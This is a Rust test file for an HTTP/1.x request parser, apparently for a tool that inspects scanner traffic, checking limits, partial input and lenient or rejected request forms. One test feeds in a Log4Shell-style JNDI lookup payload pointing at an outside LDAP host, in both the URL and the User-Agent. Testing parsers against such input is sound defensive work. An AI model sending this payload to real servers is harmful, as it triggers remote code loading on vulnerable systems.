//! Tests of the HTTP/1.x request parser: builder round trips, partial
//! segments, limits, lenient and rejected forms.

use super::*;
use crate::synth::app::http_request;

/// Header names and values of a parsed request, as strings.
fn fields(request: &Request<'_>) -> Vec<(String, String)> {
    let text = |b: &[u8]| String::from_utf8_lossy(b).into_owned();
    request
        .headers()
        .iter()
        .map(|h| (text(h.name), text(h.value)))
        .collect()
}

/// `payload` must be rejected with `expected`.
fn check_err(payload: &[u8], expected: HttpError) {
    let got = parse_request(payload).map(|r| format!("{r:?}"));
    assert_eq!(got, Err(expected), "{}", payload.escape_ascii());
}

#[test]
fn round_trip_from_builder() {
    let headers = [
        ("Host", "mairie.example"),
        ("Content-Type", "application/x-www-form-urlencoded"),
    ];
    let bytes = http_request("POST", "/login.php?next=/", &headers, b"user=admin&pass=x");
    let request = parse_request(&bytes).unwrap();
    assert_eq!(request.method, b"POST");
    assert_eq!(request.target, b"/login.php?next=/");
    assert_eq!(request.version_minor, 1);
    assert_eq!(
        fields(&request),
        [
            ("Host".into(), "mairie.example".into()),
            (
                "Content-Type".into(),
                "application/x-www-form-urlencoded".into()
            ),
        ]
    );
    assert!(request.headers_complete);
    assert_eq!(request.body, b"user=admin&pass=x");
    assert_eq!(request.malformed_lines, 0);
}

#[test]
fn real_world_scanner_request() {
    let bytes = b"GET /?x=${jndi:ldap://198.51.100.7:1389/a} HTTP/1.1\r\n\
        Host: 203.0.113.10:8080\r\n\
        User-Agent: ${jndi:ldap://198.51.100.7:1389/a}\r\n\
        Accept: */*\r\n\r\n";
    let request = parse_request(bytes).unwrap();
    assert_eq!(request.target, b"/?x=${jndi:ldap://198.51.100.7:1389/a}");
    assert_eq!(
        request.header("user-agent"),
        Some(&b"${jndi:ldap://198.51.100.7:1389/a}"[..])
    );
    assert_eq!(request.header("Host"), Some(&b"203.0.113.10:8080"[..]));
    assert!(request.headers_complete);
    assert!(request.body.is_empty());
}

#[test]
fn header_lookup_is_case_insensitive_and_takes_the_first() {
    let bytes = http_request(
        "GET",
        "/",
        &[("X-Forwarded-For", "1"), ("x-forwarded-for", "2")],
        b"",
    );
    let request = parse_request(&bytes).unwrap();
    for name in ["x-forwarded-for", "X-FORWARDED-FOR", "X-Forwarded-For"] {
        assert_eq!(request.header(name), Some(&b"1"[..]), "{name}");
    }
    assert_eq!(request.header("X-Forwarded"), None);
    assert_eq!(request.header(""), None);
}

#[test]
fn values_are_trimmed_of_ows_only() {
    let request = parse_request(b"GET / HTTP/1.0\nA: \t v a l \t \nB:\nC:x\n\n").unwrap();
    assert_eq!(request.version_minor, 0);
    assert_eq!(
        fields(&request),
        [
            ("A".into(), "v a l".into()),
            ("B".into(), "".into()),
            ("C".into(), "x".into()),
        ]
    );
    assert!(request.headers_complete);
}

#[test]
fn partial_segment_keeps_complete_lines() {
    let request = parse_request(b"GET /index.html HTTP/1.1\r\nHost: a\r\nUser-Ag").unwrap();
    assert_eq!(fields(&request), [("Host".into(), "a".into())]);
    assert!(!request.headers_complete);
    assert!(request.body.is_empty());

    let request = parse_request(b"GET / HTTP/1.1\r\nHost: a\r").unwrap();
    assert!(request.headers().is_empty());
    check_err(b"GET / HTTP/1.1", HttpError::Truncated);
    check_err(b"", HttpError::Truncated);
}

#[test]
fn every_prefix_parses_consistently() {
    let bytes = http_request(
        "PUT",
        "/f",
        &[("Host", "h"), ("Content-Length", "3")],
        b"abc",
    );
    let line_end = bytes.iter().position(|&b| b == b'\n').unwrap();
    let mut seen = 0;
    for len in 0..=bytes.len() {
        match parse_request(&bytes[..len]) {
            Err(e) => assert!(len <= line_end && e == HttpError::Truncated, "prefix {len}"),
            Ok(request) => {
                assert!(len > line_end, "prefix {len}");
                assert!(request.headers().len() >= seen, "prefix {len}");
                seen = request.headers().len();
                assert_eq!(
                    request.body,
                    &bytes[bytes.len() - 3..len.max(bytes.len() - 3)]
                );
            }
        }
    }
    assert_eq!(seen, 2);
}

#[test]
fn headers_past_the_limit_are_skipped_not_fatal() {
    let names: Vec<String> = (0..MAX_HEADERS + 6).map(|i| format!("H{i}")).collect();
    let headers: Vec<(&str, &str)> = names.iter().map(|n| (n.as_str(), "v")).collect();
    let bytes = http_request("GET", "/", &headers, b"tail");
    let request = parse_request(&bytes).unwrap();
    assert_eq!(request.headers().len(), MAX_HEADERS);
    assert_eq!(request.headers()[MAX_HEADERS - 1].name, b"H63");
    assert_eq!(request.header("H64"), None);
    assert!(request.headers_complete);
    assert_eq!(request.body, b"tail");
}

#[test]
fn request_line_length_limit() {
    let line = |target_len: usize, ending: &str| {
        let target = format!("/{}", "a".repeat(target_len - 1));
        format!("GET {target} HTTP/1.1{ending}Host: x{ending}{ending}").into_bytes()
    };
    // "GET " + target + " HTTP/1.1" is 13 bytes plus the target.
    let fits = MAX_REQUEST_LINE - 13;
    assert_eq!(
        parse_request(&line(fits, "\r\n")).unwrap().target.len(),
        fits
    );
    assert_eq!(parse_request(&line(fits, "\n")).unwrap().target.len(), fits);
    check_err(&line(fits + 1, "\r\n"), HttpError::RequestLineTooLong);
    check_err(&line(fits + 1, "\n"), HttpError::RequestLineTooLong);
    check_err(&[b'A'; MAX_REQUEST_LINE * 2], HttpError::RequestLineTooLong);
    check_err(&[b'A'; MAX_REQUEST_LINE], HttpError::Truncated);
}

#[test]
fn bad_request_lines_are_rejected() {
    let bad = HttpError::BadRequestLine;
    check_err(b"GET /\r\n\r\n", bad("missing request target or version"));
    check_err(b"GET\r\n\r\n", bad("no space"));
    check_err(b"GET / HTTP/2.0\r\n\r\n", bad("version is not HTTP/1.x"));
    check_err(b"GET / http/1.1\r\n\r\n", bad("version is not HTTP/1.x"));
    check_err(b"GET / HTTP/1.1 \r\n\r\n", bad("version is not HTTP/1.x"));
    check_err(b"GET / HTTP/1.10\r\n\r\n", bad("version is not HTTP/1.x"));
    check_err(b"G(T / HTTP/1.1\r\n\r\n", bad("method is not a token"));
    check_err(b" / HTTP/1.1\r\n\r\n", bad("method is not a token"));
    check_err(
        b"GET HTTP/1.1\r\n\r\n",
        bad("missing request target or version"),
    );
    check_err(
        b"GET  HTTP/1.1\r\n\r\n",
        bad("missing request target or version"),
    );
    check_err(b"\x16\x03\x01\x02\x00\x01\n", bad("no space"));
}

#[test]
fn lenient_where_attacks_hide() {
    let request = parse_request(b"\r\n\nGET /a b/../c HTTP/1.1\r\nHost: x\r\n\r\n").unwrap();
    assert_eq!(request.method, b"GET");
    assert_eq!(request.target, b"/a b/../c");
    let request = parse_request(b"FOO * HTTP/1.1\r\n\r\n").unwrap();
    assert_eq!((request.method, request.target), (&b"FOO"[..], &b"*"[..]));
}

#[test]
fn unreadable_field_lines_are_counted_and_skipped() {
    let bytes =
        b"GET / HTTP/1.1\r\nHost : evil\r\nA: 1\r\n  folded\r\nNoColon\r\n: empty\r\nB: 2\r\n\r\n";
    let request = parse_request(bytes).unwrap();
    assert_eq!(
        fields(&request),
        [("A".into(), "1".into()), ("B".into(), "2".into())]
    );
    assert_eq!(request.malformed_lines, 4);
    assert_eq!(request.header("host"), None);
}

#[test]
fn looks_like_request_needs_method_and_space() {
    let cases: [(&[u8], bool); 9] = [
        (b"GET / HTTP/1.1", true),
        (b"PROPFIND /dav HTTP/1.1", true),
        (b"OPTIONS * HTTP/1.1", true),
        (b"GET", false),
        (b"GETX / HTTP/1.1", false),
        (b"get / HTTP/1.1", false),
        (b"POS", false),
        (b"\x16\x03\x01", false),
        (b"", false),
    ];
    for (payload, expected) in cases {
        assert_eq!(
            looks_like_request(payload),
            expected,
            "{}",
            payload.escape_ascii()
        );
    }
}
